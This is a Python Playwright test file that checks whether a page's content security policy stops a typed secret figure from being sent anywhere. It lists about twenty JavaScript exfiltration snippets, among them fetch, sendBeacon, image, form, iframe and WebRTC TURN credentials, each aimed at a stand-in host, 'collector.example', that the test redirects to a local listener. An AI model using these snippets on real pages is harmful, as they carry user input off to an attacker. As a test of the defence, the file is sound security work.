"""A figure typed into the page goes nowhere: no request is made, and each known way of sending it is tried.

The listener counts whatever arrives; the same ways on a page without policy show that it hears each of them.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Playwright

from web.conftest import CHROMIUM
from web.web_help import address, serving

pytestmark = [pytest.mark.slow, pytest.mark.web]
SECRET, COLLECTOR = "48151.62342", "collector.example"
WAYS = {
    "fetch": "fetch(U).catch(() => {})",
    "XMLHttpRequest": "try { const x = new XMLHttpRequest(); x.open('POST', U); x.send(V); } catch (e) {}",
    "sendBeacon": "try { navigator.sendBeacon(U, V); } catch (e) {}",
    "WebSocket": "try { new WebSocket(U.replace('http', 'ws')); } catch (e) {}",
    "EventSource": "try { new EventSource(U); } catch (e) {}",
    "image": "new Image().src = U",
    "script": "const s = document.createElement('script'); s.src = U; document.head.append(s)",
    "style-sheet": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: U}))",
    "background": "document.body.style.backgroundImage = `url(${U})`",
    "font": "new FontFace('f', `url(${U})`).load().catch(() => {})",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: U}))",
    "form": "const f = document.createElement('form'); f.action = U; document.body.append(f); f.submit()",
    "media": "document.body.append(Object.assign(document.createElement('video'), {src: U, preload: 'auto'}))",
    "object": "document.body.append(Object.assign(document.createElement('object'), {data: U}))",
    "worker": "try { new Worker(URL.createObjectURL(new Blob([`fetch('${U}')`]))); } catch (e) {}",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: U}))",
    "ping": "const p = document.createElement('a'); p.href = '#x'; p.ping = U; document.body.append(p); p.click()",
    "navigation": "location.href = U",
    "refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${U}`;"
    " document.head.append(m)",
    "new-window": "try { window.open(U); } catch (e) {}",
    # A relay over TCP, since a machine without a network route sends no packet.
    "peer-connection": "try { const c = new RTCPeerConnection({iceServers: [{username: 'u', credential: V,"
    " urls: 'turn:' + U.slice(7, -12) + '?transport=tcp'}]});"
    " c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o)); } catch (e) {}",
}


class Listener:
    """Counts connections over TCP and packets over UDP on one port."""

    def __init__(self) -> None:
        self.arrived: list[str] = []
        self.tcp, self.udp = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.port = self.tcp.getsockname()[1]
        self.udp.bind(("127.0.0.1", self.port))
        for listen in (self._connections, self._packets):
            threading.Thread(target=listen, daemon=True).start()

    def _connections(self) -> None:
        while True:
            try:
                connection, _ = self.tcp.accept()
                connection.settimeout(1)
                self._note(connection.recv(4096).decode("latin-1").split("\r\n")[0])
                connection.close()
            except TimeoutError:
                continue
            except OSError:
                return

    def _packets(self) -> None:
        while True:
            try:
                self._note(f"{len(self.udp.recv(4096))} bytes")
            except OSError:
                return

    def _note(self, said: str) -> None:
        # A browser opens some connections ahead of need; without a byte they carry nothing.
        if said:
            self.arrived.append(said)

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


@pytest.fixture(scope="module")
def lured(playwright: Playwright, listener: Listener) -> Iterator[Browser]:
    """A browser for which the collector's name is the listener's, and no other name is any place.

    Its own guards of local addresses are off, so that what stops a request is the page.
    """
    rules = f"--host-resolver-rules=MAP {COLLECTOR} 127.0.0.1:{listener.port}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
    open_doors = ["--disable-features=LocalNetworkAccessChecks", "--allow-loopback-in-peer-connection"]
    options = ["--no-sandbox", rules, *open_doors]
    found = playwright.chromium.launch(executable_path=CHROMIUM, args=options)
    yield found
    found.close()


def attempt(
    browser: Browser, page_address: str, listener: Listener, script: str = "", patience: float = 700
) -> tuple[list[str], list[str]]:
    """Type the secret, run a script in the page, wait some milliseconds; give what arrived and was asked for."""
    before, asked = len(listener.arrived), []
    context = browser.new_context()
    page = context.new_page()
    page.goto(page_address)
    context.on("request", lambda request: asked.append(request.url))
    type_secret(page)
    if script:
        target = f"http://{COLLECTOR}:{listener.port}/{SECRET}"
        page.evaluate(f"() => {{ const U = '{target}', V = '{SECRET}'; {script} }}")
    for _ in range(10):
        page.wait_for_timeout(patience / 10)
        if len(listener.arrived) > before:
            break
    context.close()
    return listener.arrived[before:], [url for url in asked if not url.startswith(("blob:", "data:"))]


def type_secret(page: Page) -> None:
    if page.locator("#stand-figure").count():
        page.fill("#stand-figure", SECRET)


def test_typing_a_figure_makes_no_request(served, lured, listener):
    assert attempt(lured, f"{served}/index.html", listener) == ([], [])


@pytest.mark.parametrize("script", WAYS.values(), ids=WAYS)
def test_a_way_of_sending_the_figure_away_is_shut(served, lured, listener, script):
    arrived, _ = attempt(lured, f"{served}/index.html", listener, script)
    assert arrived == []


@pytest.mark.parametrize("script", WAYS.values(), ids=WAYS)
def test_the_listener_hears_the_same_way_on_a_page_without_policy_and_script(tmp_path, lured, listener, script):
    (tmp_path / "open.html").write_text("<!DOCTYPE html><title>open</title><input id='stand-figure'>", "utf-8")
    with serving(tmp_path) as open_site:
        arrived, _ = attempt(lured, f"{open_site}/open.html", listener, script, patience=5000)
    assert arrived


def test_the_policy_names_only_the_style_and_script_in_the_page(site):
    for path in site.rglob("*.html"):
        text = path.read_text("utf-8")
        assert "default-src 'none'" in text and "connect-src 'none'" in text and "form-action 'none'" in text
        assert "unsafe" not in text.split("</head>")[0].split("<style>")[0]
        assert ' style="' not in text and " onclick=" not in text


def test_the_typed_figure_is_kept_nowhere(site, browser):
    context = browser.new_context()
    page = context.new_page()
    page.goto(address(site, "index.html"))
    type_secret(page)
    kept = page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, location.href])")
    context.close()
    assert SECRET not in kept
